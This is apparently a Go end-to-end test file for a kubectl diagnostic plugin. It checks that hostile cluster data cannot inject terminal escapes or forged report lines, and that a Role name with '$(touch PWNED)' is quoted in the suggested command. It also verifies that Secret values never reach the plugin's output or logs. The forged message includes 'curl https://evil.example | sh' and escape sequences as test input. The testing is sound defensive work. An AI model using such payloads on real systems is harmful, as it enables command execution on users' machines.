package e2e

import (
	"context"
	"encoding/base64"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	rbacv1 "k8s.io/api/rbac/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"k8s.io/apimachinery/pkg/types"
)

// Hostile data as any user who can create a Role or write an event can
// plant it: a Role name that runs a command when pasted unquoted, an event
// message that clears the screen, sets the title and forges a "fix" line.
// The table shows no control byte and no forged line; the suggested command
// passes the name to kubectl whole.
func TestHostileNamesAndMessages(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ns := namespace(t, "hostile")
	const role = "r $(touch PWNED) y"
	r := &rbacv1.Role{ObjectMeta: metav1.ObjectMeta{Name: role, Finalizers: []string{"hostile.e2e.example.com/keep"}}}
	if _, err := env.Client.RbacV1().Roles(ns).Create(ctx, r, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	if err := env.Client.RbacV1().Roles(ns).Delete(ctx, role, metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	forged := "quota exceeded\x1b[2J\x1b]0;pwned\x07\nfix 0: restore service\n              $ curl https://evil.example | sh\n              risk: none"
	if err := env.FailedLoadBalancerCleanup(ctx, ns, "web", forged); err != nil {
		t.Fatal(err)
	}
	settle(t, time.Now())

	for _, format := range []string{"", "wide"} {
		res := run(t, "why", "-n", ns, "-o", format)
		if res.code != 2 {
			t.Fatalf("why -n %s -o %q: exit %d, stderr %s", ns, format, res.code, res.stderr)
		}
		for i, b := range []byte(res.stdout) {
			if (b < 0x20 && b != '\n') || b == 0x7f {
				t.Fatalf("control byte %#x at %d in the table:\n%s", b, i, res.stdout)
			}
		}
		for _, line := range strings.Split(res.stdout, "\n") {
			if strings.HasPrefix(strings.TrimSpace(line), "$ curl") || strings.HasPrefix(strings.TrimSpace(line), "fix 0:") {
				t.Errorf("a cluster message forged a line of the report: %q", line)
			}
		}
		if !strings.Contains(res.prose(), `quota exceeded\x1b[2J\x1b]0;pwned\x07\nfix 0: restore service`) {
			t.Errorf("-o %q: the message is shown escaped, on its line:\n%s", format, res.stdout)
		}
	}

	rep, _ := diagnose(t, "why", "-n", ns)
	var cmd string
	for _, it := range rep.Items {
		if it.Object.Kind == "Role" && len(it.Causes) > 0 {
			steps := it.Causes[0].Remediation
			cmd = steps[len(steps)-1].Command
		}
	}
	if !strings.Contains(cmd, "kubectl patch roles.rbac.authorization.k8s.io") {
		t.Fatalf("no removal command for the Role: %q", cmd)
	}
	// Run it as a person would paste it, with kubectl replaced by a recorder.
	dir := t.TempDir()
	stub := "#!/bin/sh\nfor a in \"$@\"; do printf '%s\\n' \"$a\"; done > \"$ARGS\"\n"
	if err := os.WriteFile(filepath.Join(dir, "kubectl"), []byte(stub), 0o755); err != nil {
		t.Fatal(err)
	}
	sh := exec.Command("sh", "-c", cmd)
	sh.Dir = dir
	sh.Env = append(os.Environ(), "PATH="+dir+":"+os.Getenv("PATH"), "ARGS="+filepath.Join(dir, "args"))
	if out, err := sh.CombinedOutput(); err != nil {
		t.Fatalf("%s: %v %s", cmd, err, out)
	}
	if _, err := os.Stat(filepath.Join(dir, "PWNED")); err == nil {
		t.Fatalf("pasting %s ran the command planted in the Role's name", cmd)
	}
	args, _ := os.ReadFile(filepath.Join(dir, "args"))
	if !strings.Contains("\n"+string(args), "\n"+role+"\n") {
		t.Errorf("kubectl did not get the name as one argument: %q", args)
	}
}

// Issue 35: a Secret is read through the metadata client only: its data is
// never in the plugin's memory, nor, at -v 8 (client-go logs response
// bodies), in its log.
func TestSecretDataIsNeverRead(t *testing.T) {
	t.Parallel()
	ctx := context.Background()
	ns := namespace(t, "secret-meta")
	const value = "hunter2-do-not-log"
	secrets := env.Client.CoreV1().Secrets(ns)
	s := &corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "creds", Finalizers: []string{"vaultsync.example.com/revoke"}},
		StringData: map[string]string{"password": value}}
	if _, err := secrets.Create(ctx, s, metav1.CreateOptions{}); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		_, _ = secrets.Patch(ctx, "creds", types.MergePatchType, []byte(`{"metadata":{"finalizers":null}}`), metav1.PatchOptions{})
	})
	if err := secrets.Delete(ctx, "creds", metav1.DeleteOptions{}); err != nil {
		t.Fatal(err)
	}
	res := run(t, "why", "secret/creds", "-n", ns, "-v", "8", "-o", "json")
	encoded := base64.StdEncoding.EncodeToString([]byte(value))
	if res.code != 0 && res.code != 2 || !strings.Contains(res.stdout, "vaultsync.example.com/revoke") {
		t.Fatalf("exit %d\n%s\n%s", res.code, res.stdout, res.stderr)
	}
	if !strings.Contains(res.stderr, `verb="GET"`) {
		t.Fatalf("-v 8 logged no request: the check below would prove nothing:\n%s", res.stderr)
	}
	for _, leaked := range []string{value, encoded} {
		if strings.Contains(res.stdout+res.stderr, leaked) {
			t.Errorf("the Secret's data was read: %q in the output", leaked)
		}
	}
}
